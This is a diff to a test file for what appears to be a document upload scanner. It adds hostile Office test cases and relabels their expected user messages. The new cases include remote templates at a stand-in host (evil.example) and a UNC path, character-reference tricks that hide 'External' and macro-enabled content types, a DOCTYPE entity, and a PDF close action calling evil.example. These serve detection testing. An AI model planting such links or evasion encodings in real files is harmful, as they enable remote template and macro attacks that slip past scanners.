@@ -275,6 +275,8 @@ INCONSISTENT = "table of contents does not match its contents"
 ZIP64 = "large-file (ZIP64) format"
 
 # (case, file name, bytes, what the message must say, what it must tell them to do)
+REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
 HOSTILE = [
     # Issue 16 item 1, exactly as reported: clamd alone answers OK for it.
     ("zip64-streamed-eicar-in-media", "letter.docx", docx({"word/media/image2.png": PNG + eicar_bytes()},
@@ -400,15 +402,30 @@ HOSTILE = [
      b'PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'}),
      "contains macros", "Save it without them"),
     ("xlsx-external-workbook-link", "claims.xlsx", office({**XLSX_PARTS,
-     "xl/externalLinks/externalLink1.xml": b"<externalLink/>"}), "links to other files", "Break the links"),
+     "xl/externalLinks/externalLink1.xml": b"<externalLink/>"}), "links to a file on another computer",
+     "Save it as PDF"),
     ("docx-remote-template", "letter.docx", docx({"word/_rels/settings.xml.rels": b'<Relationships><Relationship '
      b'Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
      b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'}),
-     "links to other files or a template", "Break the links"),
+     "links to a file on another computer", "Save it as PDF"),
     ("docx-linked-picture", "letter.docx", docx({"word/_rels/document.xml.rels": b"<Relationships><Relationship "
      b"Id='rId9' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/image' "
      b"Target='file://host/share/a.png' TargetMode='External'/></Relationships>"}),
-     "links to other files", "Break the links"),
+     "links to a file on another computer", "Save it as PDF"),
+    # Review: what an XML reader reads, not what a pattern sees (">" inside a value, character references).
+    ("docx-remote-template-gt-in-value", "letter.docx", docx({"word/_rels/settings.xml.rels": b'<Relationships>'
+     b'<Relationship Id="rId1" Type="REL/attachedTemplate" Target="http://evil.example/t.dotm?a>b" '
+     b'TargetMode="External"/></Relationships>'.replace(b"REL/", REL)}), "links to a file on another computer",
+     "Save it as PDF"),
+    ("docx-remote-template-character-reference", "letter.docx", docx({"word/_rels/settings.xml.rels":
+     b'<Relationships><Relationship Id="rId1" Type="REL/attachedTemplate" Target="\\\\host\\t.dotm" '
+     b'TargetMode="&#69;xternal"/></Relationships>'.replace(b"REL/", REL)}), "links to a file on another computer",
+     "Save it as PDF"),
+    ("docx-macro-enabled-character-reference", "letter.docx", docx({"[Content_Types].xml": b'<Types><Override '
+     b'PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/>'
+     b"</Types>"}), "contains macros", "Save it without them"),
+    ("docx-packaging-with-a-doctype", "letter.docx", docx({"_rels/.rels": b'<!DOCTYPE r [<!ENTITY e "x">]>'
+     b"<Relationships/>"}), "something ordinary Word or Excel documents do not", "Save it again"),
     ("pdf-automatic-action-on-close", "eob.pdf",
      pdf(b"<< /Type /Catalog /Pages 2 0 R /AA << /WC << /S /URI /URI (http://evil.example/) >> >> >>", PAGES),
      "runs actions by itself", PRINT),
@@ -558,6 +575,11 @@ GENUINE = [
     ("letter-with-a-link.docx", docx({"word/_rels/document.xml.rels": b'<Relationships><Relationship Id="rId5" '
      b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
      b'Target="https://www.illinois.gov/hfs" TargetMode="External"/></Relationships>'})),
+    # Review: a letter made from a template on the writer's own computer, and a mail merge from a local list.
+    ("letter-from-a-local-template.docx", docx({"word/_rels/settings.xml.rels": b'<Relationships><Relationship '
+     b'Id="rId1" Type="REL/attachedTemplate" Target="file:///C:\\Users\\pat\\Templates\\Letterhead.dotx" '
+     b'TargetMode="External"/><Relationship Id="rId2" Type="REL/mailMergeSource" Target="file:///C:\\data\\'
+     b'members.xlsx" TargetMode="External"/></Relationships>'.replace(b"REL/", REL)})),
     # Notes a person writes: headings, dashes and sums are not formulas that call anything.
     ("call-notes.txt", b"=== Summary ===\n- Follow-up call (Tuesday) with Dr. Smith-Jones\n-5 days late\n=1+1\n"),
     ("notes.csv", b"member,notes\nPat,- Follow-up call (Tuesday)\nLee,=== see EOB ===\n"),
